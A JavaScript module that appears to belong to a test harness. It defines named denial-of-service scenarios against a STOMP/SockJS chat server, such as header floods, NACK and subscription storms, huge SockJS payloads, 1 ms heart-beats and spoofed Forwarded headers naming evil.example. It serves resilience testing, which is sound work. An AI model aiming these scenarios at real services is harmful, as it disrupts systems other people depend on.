// Further attacks by someone who has read the source.

import { chat, each, enter, frame, leave, send, subscribe, talk, times } from '../frames.mjs';
import { request } from '../http.mjs';
import { textMessage } from '../websocket.mjs';

const KIB = 1_024;
const TOPIC = '/topic/abuse';

const COLONS = [...Array.from({ length: 90 }, (_, at) => [`h${at}`, ':'.repeat(8_180)])];

async function session(context, from) {
  const line = await context.session(from === undefined ? {} : { from });
  line?.write(subscribe('/user/queue/errors', 'errors'));
  return line;
}

/** Everyone is in as many rooms as there may be; then all are gone at once. */
async function massLeave(context) {
  const lines = await context.many(150, async (number) => {
    const line = await session(context, `127.0.8.${number + 1}`);
    line?.write(each(95, (at) => enter(`r${(number * 95 + at) % 9_000}`, `p${number}`)));
    await line?.receipted('SEND', { destination: '/topic/none' });
    return line;
  });
  for (const line of lines) line?.end();
  // The attack aims at the work after the grace period.
}

export const MORE = [
  {
    name: '1a-colons-acknowledging',
    row: '1a',
    says: '20 sessions with 8 subscriptions that acknowledge, and SENDs with 740 KB of `:` in headers',
    run: async (context) => {
      await context.many(20, async (number) => {
        const line = await context.session();
        const more = { ack: 'client-individual' };
        line?.write(each(8, (at) => subscribe(TOPIC, `${number}-${at}`, more)));
      });
      const sender = await context.session();
      const bytes = frame('SEND', [['destination', TOPIC], ...COLONS]);
      if (sender !== null) await context.pour(sender, () => bytes);
    },
  },
  {
    name: '1a-colons-queue',
    row: '1a',
    says: 'messages with 740 KB of `:` in headers in a queue, handed out ten times each',
    run: async (context) => {
      await context.many(10, async (number) => {
        const consumer = await context.session({
          onFrame: ({ head }) => {
            const [, ack] = /\nack:([^\n]*)/.exec(head) ?? [];
            if (ack !== undefined) consumer?.write(frame('NACK', { id: ack }));
          },
        });
        const more = { ack: 'client-individual' };
        consumer?.write(each(8, (at) => subscribe(`/queue/colons${number}`, `${at}`, more)));
        const sender = await session(context);
        const bytes = frame('SEND', [['destination', `/queue/colons${number}`], ...COLONS]);
        if (sender !== null) await context.pour(sender, () => bytes);
      });
    },
  },
  {
    name: '4-nack-storm',
    row: '3',
    says: 'small messages that are rejected ten times each: what is written into the log',
    run: (context) =>
      context.many(10, async (number) => {
        const consumer = await context.session({
          onFrame: ({ head }) => {
            const [, ack] = /\nack:([^\n]*)/.exec(head) ?? [];
            if (ack !== undefined) consumer?.write(frame('NACK', { id: ack }));
          },
        });
        const more = { ack: 'client-individual', 'prefetch-count': '1000' };
        consumer?.write(each(8, (at) => subscribe(`/queue/n${number}`, `${at}`, more)));
        const sender = await session(context);
        if (sender !== null) {
          await context.pour(sender, () => times(100, send(`/queue/n${number}`, 'x')));
        }
      }),
  },
  {
    name: '4-queue-consumers-deaf',
    row: '2',
    says: 'one queue with 20 × 900 consumers whose sessions are deaf, and SENDs to it',
    run: async (context) => {
      await context.many(20, async () => {
        const line = await context.session();
        line?.write(each(900, (at) => subscribe('/queue/deaf', `${at}`)));
        await line?.receipted('SEND', { destination: '/topic/none' });
        line?.deafen();
      });
      const sender = await session(context);
      if (sender !== null) {
        await context.pour(sender, () => times(10, send('/queue/deaf', 'x'.repeat(KIB))));
      }
    },
  },
  {
    name: '4-queue-give-back',
    row: '1c',
    says: '10,000 deliveries of a queue given back at once by sessions that leave, over and over',
    run: async (context) => {
      const sender = await session(context);
      sender?.write(times(9_900, send('/queue/back', 'x')));
      await sender?.receipted('SEND', { destination: '/topic/none' });
      await context.many(Number.POSITIVE_INFINITY, async () => {
        const line = await context.session();
        if (line === null) return context.pause(20);
        line.write(
          each(8, (at) =>
            subscribe('/queue/back', `${at}`, { ack: 'client', 'prefetch-count': '10000' }),
          ),
        );
        await line.receipted('SEND', { destination: '/topic/none' });
        line.end();
      });
    },
  },
  {
    name: '4-deduplication',
    row: '1c',
    says: '40 sessions whose messages have ids that were taken, or are their own repeats',
    run: (context) =>
      context.many(40, async (number) => {
        const line = await session(context, `127.0.9.${number + 1}`);
        if (line === null) return;
        await context.pour(line, (at) =>
          each(20, (more) =>
            chat(
              { type: 'TALK', roomId: 'repeats', sender: `s${(at + more) % 3}`, message: 'x' },
              { 'x-deduplication-id': `id${more}` },
            ),
          ),
        );
      }),
  },
  {
    name: '4-duplicate-headers',
    row: '1c',
    says: '20 sessions whose SENDs have 98 times the same header of 8 KB of escapes',
    run: (context) => {
      const headers = Array.from({ length: 98 }, () => ['a', '\\c'.repeat(4_000)]);
      const bytes = frame('SEND', [['destination', TOPIC], ...headers]);
      return context.many(20, async () => {
        const line = await context.session();
        if (line !== null) await context.pour(line, () => bytes);
      });
    },
  },
  {
    name: '4-unsubscribe-storm',
    row: '1c',
    says: '50 sessions with 900 subscriptions that leave at once, and come back',
    run: (context) =>
      context.many(Number.POSITIVE_INFINITY, async (number) => {
        const line = await context.session();
        if (line === null) return context.pause(20);
        line.write(each(900, (at) => subscribe(`${TOPIC}/${at % 200}`, `${number}-${at}`)));
        await line.receipted('SEND', { destination: '/topic/none' });
        line.end();
      }),
  },
  {
    name: '4-presence-churn',
    row: '1f',
    says: '100 sessions in one room, each under 90 names, in and out, before 50 who watch',
    run: async (context) => {
      await context.many(50, async () => {
        const line = await context.session();
        line?.write(subscribe('/topic/chat/room/churn/presence', '1'));
        line?.write(subscribe('/topic/chat/rooms', '2'));
      });
      await context.many(100, async (number) => {
        const line = await session(context, `127.0.10.${number + 1}`);
        if (line === null) return;
        await context.again(async (turn) => {
          if (line.closed !== null) return context.pause(20);
          const act = turn % 2 === 0 ? enter : leave;
          line.write(each(45, (at) => act('churn', `name ${number} ${at}`)));
          await line.receipted('SEND', { destination: '/topic/none' });
          await context.pause(500);
        });
      });
    },
  },
  {
    name: '4-mass-leave',
    row: '1f',
    secondsMin: 16,
    says: '150 sessions in 95 rooms each that are gone at once: what follows after the grace',
    run: massLeave,
  },
  {
    name: '4-sockjs-empty-texts',
    row: '1c',
    says: '10 WebSockets of SockJS that send arrays of a million empty strings',
    run: (context) => {
      const message = textMessage(`[${'"",'.repeat(1_000_000)}""]`);
      return context.many(10, async (at) => {
        const line = await context.webSocket({ path: `/websc/000/empty${at}/websocket` });
        while (line.closed === null && !context.isOver) {
          context.tally.add('arrays');
          if (!line.writeRaw(message)) await line.drained();
          await context.pause(1);
        }
      });
    },
  },
  {
    name: '4-xhr-empty-texts',
    row: '1c',
    says: '10 SockJS sessions over HTTP that send arrays of a million empty strings',
    run: (context) => {
      const body = `[${'"",'.repeat(1_000_000)}""]`;
      return context.many(10, async (at) => {
        const path = `/websc/000/emptyx${at}`;
        const poll = context.openHttp();
        await poll.ask('POST', `${path}/xhr`);
        poll.write(request('POST', `${path}/xhr`));
        const http = context.openHttp();
        await context.again(
          async () => (await http.ask('POST', `${path}/xhr_send`, { body })) || context.pause(20),
        );
      });
    },
  },
  {
    name: '4-sockjs-polling',
    row: '1h',
    says: '500 SockJS sessions that poll, and messages for all of them',
    run: async (context) => {
      const sender = await context.session();
      const sending = context.again(async () => {
        sender?.write(send(TOPIC, 'x'.repeat(KIB)));
        await context.pause(10);
      });
      const polling = context.many(100, async (at) => {
        const path = `/websc/000/poll${at}`;
        const http = context.openHttp();
        await http.ask('POST', `${path}/xhr`);
        const text = Buffer.concat([
          frame('CONNECT', { 'accept-version': '1.2', host: 'localhost' }),
          subscribe(TOPIC, `${at}`),
        ]).toString();
        await http.ask('POST', `${path}/xhr_send`, { body: JSON.stringify([text]) });
        await context.again(
          async () => (await http.ask('POST', `${path}/xhr`)) || context.pause(20),
        );
      });
      await Promise.all([sending, polling]);
    },
  },
  {
    name: '4-pipelined-http',
    row: '1h',
    says: '50 connections that pipeline requests of everything that is answered over HTTP',
    run: (context) => {
      const paths = [
        '/healthz',
        '/api/rooms',
        '/websc/info',
        '/',
        '/nothing',
        '/api/rooms/x/messages',
      ];
      const chunk = Buffer.concat(
        Array.from({ length: 300 }, (_, at) => request('GET', paths[at % paths.length])),
      );
      return context.many(50, async () => {
        while (!context.isOver) {
          const http = context.openHttp();
          http.write(chunk);
          for (let at = 0; at < 300 && !http.closed && !context.isOver; at += 1)
            await http.answer();
          http.end();
          await context.pause(10);
        }
      });
    },
  },
  {
    name: '4-half-closes',
    row: '2',
    says: 'TCP connections that end their side after a SUBSCRIBE, and SENDs for them',
    run: async (context) => {
      const sender = await context.session();
      const sending = context.again(async () => {
        sender?.write(send(TOPIC, 'x'.repeat(8 * KIB)));
        await context.pause(10);
      });
      const leaving = context.many(Number.POSITIVE_INFINITY, async () => {
        const line = await context.session();
        if (line === null) return context.pause(20);
        line.write(subscribe(TOPIC, '1'));
        line.socket.end();
        line.deafen();
        await context.pause(5);
      });
      await Promise.all([sending, leaving]);
    },
  },
  {
    name: '4-heart-beats-1ms',
    row: '1c',
    says: '1,000 sessions that ask for a heart-beat each millisecond',
    run: (context) => context.sessions(1_000, { headers: { 'heart-beat': '1,1' } }),
  },
  {
    name: '4-errors-long',
    row: '1d',
    says: 'connections that break STOMP with as long a name as they can, over and over',
    run: (context) =>
      context.many(Number.POSITIVE_INFINITY, async () => {
        const line = await context.session();
        if (line === null) return context.pause(5);
        line.write(frame('UNSUBSCRIBE', { id: ':'.repeat(8_000) }));
        await new Promise((resolve) => line.whenClosed(resolve));
      }),
  },
  {
    name: '4-large-rooms-ids',
    row: '1g',
    says: 'TALKs that are refused for their room, their sender or their text, of 60 KB each',
    run: (context) =>
      context.many(40, async () => {
        const line = await session(context);
        if (line === null) return;
        await context.pour(line, (at) => {
          const long = 'x'.repeat(60 * KIB);
          return [talk(long), talk('1', long), talk('1', 'x', long)][at % 3];
        });
      }),
  },
  {
    name: '4-many-topics',
    row: '2',
    says: '100 sessions with 1,000 subscriptions to topics with names of 8 KB',
    run: (context) =>
      context.many(100, async (number) => {
        const line = await context.session();
        if (line === null) return;
        await context.pour(
          line,
          (at) => subscribe(`${TOPIC}/${number}-${at}`.padEnd(8_000, 'x'), `${at}`),
          { countMax: 1_000 },
        );
      }),
  },
  {
    name: '4-seen-hosts',
    row: '5',
    says: 'requests whose Host and forwarded headers are another one each time, as long as can be',
    run: (context) =>
      context.many(Number.POSITIVE_INFINITY, async (at) => {
        const headers = {
          Host: `h${at}.example`,
          'X-Forwarded-For': Array.from(
            { length: 500 },
            (_, hop) => `10.${at & 255}.0.${hop & 255}`,
          ).join(', '),
          Forwarded: `for="[2001:db8::${at.toString(16).slice(-4)}]";host=evil.example;proto=https`,
        };
        await context.ask('GET', '/api/rooms', { headers });
      }),
  },
];
